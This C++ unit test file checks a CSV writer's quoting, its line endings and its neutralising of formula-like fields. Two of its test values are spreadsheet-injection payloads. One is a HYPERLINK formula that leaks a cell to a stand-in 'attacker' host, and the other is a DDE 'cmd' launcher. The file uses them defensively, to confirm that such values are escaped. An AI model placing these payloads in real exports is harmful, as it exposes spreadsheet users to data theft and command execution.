#include "reports/CsvText.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <array>
#include <string>
#include <vector>

namespace sg {
namespace {

using Records = std::vector<std::vector<std::string>>;

TEST(CsvText, FieldsAreQuotedOnlyWhenTheyMustBe) {
    struct Row {
        std::string value;
        std::string field;
    };
    const std::vector<Row> rows = {
        {"plain text", "plain text"},
        {"", ""},
        {"a,b", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\""},
        {"two\nlines", "\"two\nlines\""},
        {"cr\r", "\"cr\r\""},
        {"gr\xC3\xBC\xC3\x9F", "gr\xC3\xBC\xC3\x9F"},
    };
    for (const Row& row : rows) {
        EXPECT_EQ(CsvField(row.value), row.field) << row.value;
        // Each field read back alone and in a record with an empty neighbour.
        EXPECT_EQ(ParseCsv(CsvField(row.value) + "\r\n"), Records({{row.value}})) << row.value;
        const std::array<std::string_view, 2> pair = {row.value, ""};
        EXPECT_EQ(ParseCsv(CsvRecord(pair)), Records({{row.value, ""}})) << row.value;
    }
}

TEST(CsvText, RecordsEndInCrLfOrLfAndTheLastNeedsNoEnding) {
    const std::array<std::string_view, 3> fields = {"a", "b,c", ""};
    EXPECT_EQ(CsvRecord(fields), "a,\"b,c\",\r\n");
    EXPECT_EQ(ParseCsv("a,b\r\nc,d\ne,\"f\r\ng\""),
              Records({{"a", "b"}, {"c", "d"}, {"e", "f\r\ng"}}));
    EXPECT_EQ(ParseCsv(""), Records());
    EXPECT_EQ(ParseCsv("\r\n"), Records({{""}}));
    EXPECT_EQ(ParseCsv("x,\"open"), Records({{"x", "open"}}));
}

// Texts from pages, engines and profiles that a spreadsheet would run as formulas get a "'" in
// front; numbers do not; and every value reads back as it was.
TEST(CsvText, FormulaLikeFieldsAreNeutralisedAndReadBack) {
    struct Row {
        std::string value;
        std::string field;
    };
    const std::vector<Row> rows = {
        {"=HYPERLINK(\"http://attacker/?leak=\"&A1,\"x\")",
         "\"'=HYPERLINK(\"\"http://attacker/?leak=\"\"&A1,\"\"x\"\")\""},
        {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tx", "'\tx"},
        {"\rx", "\"'\rx\""},
        {"'=already", "''=already"},
        {"''-x", "'''-x"},
        {"-12", "-12"},
        {"-1.5", "-1.5"},
        {"it's", "it's"},
        {"'quoted'", "'quoted'"},
        {"a=b", "a=b"},
        {"-", "'-"},
    };
    for (const Row& row : rows) {
        EXPECT_EQ(CsvField(row.value), row.field) << row.value;
        const std::array<std::string_view, 2> pair = {row.value, "=x"};
        EXPECT_EQ(ParseCsv(CsvRecord(pair)), Records({{row.value, "=x"}})) << row.value;
    }
}

}  // namespace
}  // namespace sg
